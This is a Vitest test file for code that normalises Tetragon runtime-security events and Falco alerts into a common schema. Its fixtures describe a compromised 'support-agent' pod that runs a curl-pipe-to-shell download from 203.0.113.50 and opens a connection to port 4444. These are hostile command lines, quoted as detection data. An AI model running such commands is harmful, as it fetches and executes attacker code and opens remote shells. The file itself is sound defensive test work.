import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { falcoFacts } from '../falco/alert.js';
import { identifyingIp, syscallName } from '../workload.js';
import { normalizeTetragonEvent, tetragonExport, tetragonFacts } from './event.js';

const lines = (name: string): Array<Record<string, unknown>> =>
  readFileSync(new URL(`../../../fixtures/tetragon-export/${name}`, import.meta.url), 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as Record<string, unknown>);

describe('Tetragon export event mapping', () => {
  const agent = lines('agent-node.jsonl');

  it('maps an execution: actor on its node, binary as resource, entities of the container and process tree', () => {
    // GIVEN the agent's python3.11 starting `sh -c "curl ... | sh"` (line 5 of the fixture)
    const res = normalizeTetragonEvent(agent[4], 'f'.repeat(64));
    // THEN
    expect(res.ok).toBe(true);
    if (!res.ok) return;
    const e = res.event;
    expect(e).toMatchObject({
      dataType: 'tetragon:export:event',
      provider: 'tetragon',
      layer: 'workload',
      class: 'process_activity',
      service: 'process',
      action: 'exec',
      time: '2026-11-20T10:02:21.118Z',
      actor: { principal: 'root@ip-10-0-1-23.ec2.internal', type: 'OSUser', name: 'dash' },
      srcHost: 'ip-10-0-1-23.ec2.internal',
      outcome: 'success',
      readOnly: true,
      resources: ['/usr/bin/dash'],
    });
    expect(e.id).toMatch(/^tetragon:process_exec:[A-Za-z0-9+/=]+:2026-11-20T10:02:21\.118734512Z$/);
    const kinds = (e.related ?? []).map((r) => r.kind);
    expect(kinds).toEqual(['host', 'container', 'pod', 'namespace', 'image', 'process', 'parent_process']);
    expect(e.related).toContainEqual({ kind: 'container', value: '3f2a9c1d7b44' });
  });

  it('gives the generic workload facts of an execution and of a socket hook', () => {
    expect(tetragonFacts(agent[4])).toMatchObject({
      processName: 'dash',
      cmdLine: '/usr/bin/dash -c "curl -s http://203.0.113.50/x.sh | sh"',
      parentName: 'python3.11',
      syscall: 'execve',
      inContainer: true,
      privileged: false,
      containerStart: false,
      pod: 'agents/support-agent-7d9f8b6c5-x2k4q',
    });
    const connect = agent.find((r) => JSON.stringify(r).includes('"dport":4444'));
    expect(tetragonFacts(connect)).toMatchObject({ processName: 'bash', dstIp: '203.0.113.50', dstPort: 4444, syscall: 'tcp_connect' });
  });

  it('keeps identity across re-serialization, and tells hook calls with the same time stamp apart', () => {
    const kprobe = agent.find((r) => JSON.stringify(r).includes('"dport":4444'))!;
    const a = normalizeTetragonEvent(kprobe, 'a'.repeat(64));
    // A pipeline that re-wrote the line (other key order, other raw hash) exports the same event.
    const reordered = JSON.parse(JSON.stringify({ time: kprobe.time, node_name: kprobe.node_name, process_kprobe: kprobe.process_kprobe })) as unknown;
    const b = normalizeTetragonEvent(reordered, 'b'.repeat(64));
    expect(a.ok && b.ok && a.event.id === b.event.id).toBe(true);
    // Another call of the same process at the same time with other arguments is another event.
    const other = structuredClone(kprobe) as { process_kprobe: { args: Array<{ sock_arg: { dport: number } }> } };
    other.process_kprobe.args[0]!.sock_arg.dport = 4445;
    const c = normalizeTetragonEvent(other, 'c'.repeat(64));
    expect(a.ok && c.ok && a.event.id !== c.event.id).toBe(true);
    // A log shipper's copy with keys of its own is the same event, marked as re-shaped.
    const shipped = { ...kprobe, '@timestamp': kprobe.time, kubernetes: { host: kprobe.node_name } };
    const d = normalizeTetragonEvent(shipped, 'd'.repeat(64));
    expect(a.ok && d.ok && a.event.id === d.event.id).toBe(true);
    expect([tetragonExport.origin?.(kprobe), tetragonExport.origin?.(shipped)]).toEqual(['native', 'reshaped']);
  });

  it('names tracepoint, uprobe and throttle events by what Tetragon reports', () => {
    const proc = { exec_id: 'bm9kZToxOjI=', pid: 2, uid: 1000, binary: '/usr/bin/python3' };
    const time = '2026-11-20T10:00:00.000000001Z';
    const tp = normalizeTetragonEvent({ process_tracepoint: { process: proc, subsys: 'syscalls', event: 'sys_enter_openat', args: [] }, node_name: 'n1', time }, '0'.repeat(64));
    expect(tp.ok && [tp.event.service, tp.event.action, tp.event.actor.principal]).toEqual(['tracepoint', 'syscalls/sys_enter_openat', 'uid:1000@n1']);
    const up = normalizeTetragonEvent({ process_uprobe: { process: proc, path: '/usr/bin/bash', symbol: 'readline' }, node_name: 'n1', time }, '0'.repeat(64));
    expect(up.ok && [up.event.service, up.event.action]).toEqual(['uprobe', 'readline']);
    const th = normalizeTetragonEvent({ process_throttle: { type: 'THROTTLE_START', cgroup: 'kubepods' }, node_name: 'n1', time }, '1'.repeat(64));
    expect(th.ok && [th.event.service, th.event.action, th.event.id]).toEqual(['tetragon', 'process_throttle', `sha256:${'1'.repeat(64)}`]);
  });

  it('recognises export events only, and quarantines what it cannot place in time', () => {
    expect(tetragonExport.matches(agent[0])).toBe(true);
    expect(tetragonExport.matches({ rule: 'x', output_fields: {} })).toBe(false);
    expect(tetragonExport.matches({ process_exec: 'x', node_name: 'n' })).toBe(false);
    const noTime = normalizeTetragonEvent({ process_kprobe: { process: { exec_id: 'x' } }, node_name: 'n' }, '0'.repeat(64));
    expect(noTime).toEqual({ ok: false, reason: 'Tetragon process_kprobe event has no time (the export writes "time" on every event)' });
  });
});

describe('generic workload vocabulary', () => {
  it('strips arch wrappers from kernel function names', () => {
    expect(['__x64_sys_setns', '__arm64_sys_mount', 'sys_unshare', 'tcp_connect', 'security_file_permission'].map(syscallName)).toEqual([
      'setns',
      'mount',
      'unshare',
      'tcp_connect',
      'security_file_permission',
    ]);
  });

  it('does not let loopback or link-local addresses name a machine', () => {
    expect(['127.0.0.1', '169.254.169.254', '::1', 'fe80::1', 'fd00:ec2::254', '0.0.0.0'].map(identifyingIp)).toEqual([undefined, undefined, undefined, undefined, undefined, undefined]);
    expect(['10.0.5.12', '203.0.113.50', '2001:db8::1'].map(identifyingIp)).toEqual(['10.0.5.12', '203.0.113.50', '2001:db8::1']);
  });

  it("reads the same facts from a Falco alert's output fields", () => {
    const alert = {
      rule: 'Run shell untrusted',
      time: '2026-11-20T10:02:21.118734512Z',
      output_fields: {
        'proc.name': 'sh',
        'proc.exepath': '/usr/bin/dash',
        'proc.cmdline': 'sh -c curl -s http://203.0.113.50/x.sh | sh',
        'proc.pname': 'python3',
        'evt.type': 'execve',
        'container.id': '3f2a9c1d7b44',
        'k8s.ns.name': 'agents',
        'k8s.pod.name': 'support-agent-7d9f8b6c5-x2k4q',
        'fd.name': '<NA>',
      },
    };
    expect(falcoFacts(alert)).toMatchObject({
      processName: 'sh',
      processPath: '/usr/bin/dash',
      parentName: 'python3',
      syscall: 'execve',
      inContainer: true,
      containerId: '3f2a9c1d7b44',
      pod: 'agents/support-agent-7d9f8b6c5-x2k4q',
      files: [],
    });
    expect(falcoFacts({ ...alert, output_fields: { 'container.id': 'host', 'fd.sip': '10.0.5.12', 'fd.sport': 5432 } })).toMatchObject({
      inContainer: false,
      dstIp: '10.0.5.12',
      dstPort: 5432,
    });
  });
});
